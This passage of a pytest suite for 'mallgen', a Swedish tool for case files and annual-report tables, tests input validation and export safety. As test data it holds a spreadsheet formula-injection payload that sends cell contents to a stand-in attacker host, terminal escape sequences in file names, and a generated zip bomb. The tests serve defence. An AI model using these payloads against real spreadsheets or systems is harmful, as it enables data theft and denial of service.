    assert result.exit_code == 0, result.output
    written = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    assert written["filer"] == {f"{DOCUMENT}.md": hashlib.sha256((folder / f"{DOCUMENT}.md").read_bytes()).hexdigest()}
    assert set(written["dokument"]) == {DOCUMENT}
    assert sorted(p.name for p in folder.iterdir()) == [f"{DOCUMENT}.md", "manifest.json"]


@pytest.mark.parametrize(("path", "value", "line_text"), [
    (("arende", "id"), "FU-1\n", "id:"), (("vardgivare", "kontaktperson", "epost"), "a@b.se\n", "epost:"),
])
def test_every_pattern_matches_the_whole_value(path: tuple[str, ...], value: str, line_text: str, tmp_path: Path) -> None:
    def change(data: dict[str, Any]) -> None:
        target = data
        for key in path[:-1]:
            target = target.setdefault(key, {"namn": "Kontakt"} if key == "kontaktperson" else {})
        target[path[-1]] = value

    file = case_file(tmp_path, change=change)
    result = invoke("validate", file)
    assert result.exit_code == 1
    assert any(f"{'.'.join(path)}: " in m and "har fel form" in m for m in messages(result)), result.stderr


def test_control_characters_in_keys_and_file_names_never_reach_the_terminal(tmp_path: Path) -> None:
    path = case_file(tmp_path)
    path.write_text(path.read_text(encoding="utf-8").replace("  rubrik:", '  "\\e[2J\\e[31mrubrik":', 1), encoding="utf-8")
    result = invoke("validate", path)
    assert result.exit_code == 1 and "\x1b" not in result.output
    assert "otillåtet tecken (U+001B) i fältnamnet" in result.stderr
    named = tmp_path / "ärende\x1b[2J\u202e.yaml"
    result = invoke("validate", named)
    assert result.exit_code == 1 and "\x1b" not in result.output and "\u202e" not in result.output
    assert messages(result) == [f"{tmp_path}/ärende\\x1b[2J\\u202e.yaml: filen finns inte. Kontrollera sökvägen, eller skapa en ny med 'mallgen new'."]


@pytest.mark.fallback
def test_an_unforeseen_error_is_one_swedish_line_naming_the_input(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*args: Any, **kwargs: Any) -> Any:
        raise KeyError("oförutsett")

    monkeypatch.setattr("generator.pipeline.check", boom)
    path = case_file(tmp_path)
    result = invoke("validate", path)
    assert result.exit_code == 1
    assert messages(result) == [f"Fel: oväntat fel när {path} behandlades (KeyError: 'oförutsett'). Kontrollera filen; kör kommandot igen "
                                "med --debug och skicka utskriften till den som förvaltar mallgen om felet består."]
    from generator.cli import _DEBUG

    monkeypatch.setitem(_DEBUG, "on", False)
    from generator.cli import main

    result = CliRunner().invoke(main, ["validate", str(path), "--debug"], catch_exceptions=False)
    assert result.exit_code == 1
    assert "Traceback (most recent call last)" in result.stderr and "KeyError: 'oförutsett'" in result.stderr


# --- tables of the annual report ----------------------------------------------------------------

def _report_folder(tmp_path: Path, name: str, content: bytes) -> Path:
    folder = tmp_path / "rapport"
    shutil.copytree(RAPPORT, folder)
    shutil.copy(EXAMPLES / "organisation.yaml", tmp_path / "organisation.yaml")
    (folder / name).write_bytes(content)
    return folder


HEADER = "vardgivare;period;indikator;varde\n"
TABLE_ATTACKS: dict[str, tuple[str, Any, str]] = {
    "cell över csv-modulens gräns": ("x.csv", (HEADER + "A;2026;X;" + "1" * 200_000 + "\n").encode(), "x.csv:2: en cell är för lång"),
    "UTF-8 och Latin-1 blandat": ("x.csv", (HEADER + "Vårdcentral Å;2026;X;1\n").encode() + "Vårdcentral Ö;2025;X;2\n".encode("latin-1"),
                                  "x.csv:3: filen blandar teckenkodningar: rad 2 är UTF-8 men rad 3 är det inte"),
    "nan": ("x.csv", (HEADER + "A;2026;X;nan\n").encode(), "x.csv:2: varde: 'nan' är inget tal"),
    "inf": ("x.csv", (HEADER + "A;2026;X;-inf\n").encode(), "x.csv:2: varde: '-inf' är inget tal"),
    "orimligt värde": ("x.csv", (HEADER + "A;2026;X;1e300\n").encode(), "x.csv:2: varde: '1e300' är inget tal"),
    "period på två sätt": ("x.csv", (HEADER + "A;2026-1;X;1\nA;2026-01;X;2\n").encode(), "x.csv:2: period: perioden '2026-1' står som '2026-01'"),  # the example tables write '2026-01' already
    "för många rader": ("x.csv", (HEADER + "A;2026;X;1\n" * 100_001).encode(), "x.csv:100001: tabellen har fler än 100\u00a0000 rader"),
}


@pytest.mark.parametrize("name", sorted(TABLE_ATTACKS))
def test_a_broken_table_is_named_with_its_line(name: str, tmp_path: Path) -> None:
    file, content, expected = TABLE_ATTACKS[name]
    folder = _report_folder(tmp_path, file, content)
    out = tmp_path / "ut"
    result = invoke("report", "--year", "2026", folder, "-o", out)
    assert result.exit_code == 1
    assert any(m.startswith(str(folder / expected.split(":", 1)[0])) and expected.split(":", 1)[1].strip() in m for m in messages(result)), result.stderr
    assert not out.exists()


def _xlsx(rows: list[list[Any]]) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_a_truncated_or_exploding_xlsx_is_a_message(tmp_path: Path) -> None:
    import zipfile

    good = _xlsx([["vardgivare", "period", "indikator", "varde"], ["A", "2026", "X", 1]])
    bomb = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":  # 300 MB of one repeated cell: a few hundred kB packed
                data = data.replace(b"</sheetData>", b"<!--" + b"x" * 300_000_000 + b"--></sheetData>")
            target.writestr(info.filename, data)
    for name, content, expected in (("trasig.xlsx", good[: len(good) // 2], "filen kan inte läsas som XLSX (BadZipFile). Spara den på nytt i Excel."),
                                    ("bomb.xlsx", bomb.getvalue(), "filen packas upp till 286 MB eller är onormalt hårt packad")):
        shutil.rmtree(tmp_path / "rapport", ignore_errors=True)
        folder = _report_folder(tmp_path, name, content)
        result = invoke("report", "--year", "2026", folder, "--kontrollera")
        assert result.exit_code == 1
        assert any(m.startswith(f"{folder / name}: {expected}") for m in messages(result)), result.stderr


def test_repeated_messages_are_capped(tmp_path: Path) -> None:
    from generator.cli import MAX_MESSAGES_PER_FILE

    folder = _report_folder(tmp_path, "x.csv", (HEADER + "".join(f"A;{2026 - n};X;fel\n" for n in range(500))).encode())
    result = invoke("report", "--year", "2026", folder, "--kontrollera")
    assert result.exit_code == 1
    lines = [m for m in messages(result) if m.startswith(str(folder / "x.csv"))]
    assert len(lines) == MAX_MESSAGES_PER_FILE + 1
    assert lines[-1] == f"{folder / 'x.csv'}: … och {500 - MAX_MESSAGES_PER_FILE} fel och varningar till i samma fil (de första {MAX_MESSAGES_PER_FILE} visas)."


def test_exports_write_formulas_as_text(tmp_path: Path) -> None:
    import openpyxl

    hostile = '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka")'
    folder = _report_folder(tmp_path, "x.csv", (HEADER + f"{hostile.replace(';', ',')};2026;@SUM(1);5\n+46 Vård;2026;@SUM(1);-3\n").encode())
    out = tmp_path / "ut"
    assert invoke("report", "--year", "2026", folder, "-o", out, "-f", "md").exit_code == 0
    csv_text = (out / "rapport-2026" / "samlad-aterrapportering-nyckeltal.csv").read_text(encoding="utf-8-sig")
    assert "'@SUM(1)" in csv_text and "'+46 Vård" in csv_text and ";-3" in csv_text
    assert not any(cell.startswith(("=", "+", "@")) for line in csv_text.splitlines() for cell in line.split(";"))
    workbook = openpyxl.load_workbook(out / "rapport-2026" / "samlad-aterrapportering.xlsx")
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert [c.value for c in cells if c.value.startswith(("=", "+", "@"))] and all(c.data_type == "s" and c.quotePrefix for c in cells if c.value.startswith(("=", "+", "@")))


def test_the_report_never_reads_its_own_exports_back(tmp_path: Path) -> None:
    out = tmp_path / "ut"
    first = invoke("report", "--year", "2026", RAPPORT, "-o", out, "-f", "md")
    assert first.exit_code == 0
    again = invoke("report", "--year", "2026", RAPPORT, out, "-o", out, "-f", "md")
    assert again.exit_code == 0, again.stderr
    assert messages(again) == [f"{out / 'rapport-2026'}: varning: mallgens egna utdata (manifest.json finns); läses inte som indata"]
    assert first.stdout.split(";")[0] == again.stdout.split(";")[0]


def test_a_case_id_that_is_the_report_folder_is_refused(tmp_path: Path) -> None:
    path = case_file(tmp_path, change=lambda d: d["arende"].update(id="rapport-2026"))
    result = invoke("validate", path)
    assert result.exit_code == 1
    assert any("arende.id: ärende-id 'rapport-2026' är namnet på årsrapportens mapp (mallgen report); välj ett annat id" in m for m in messages(result))
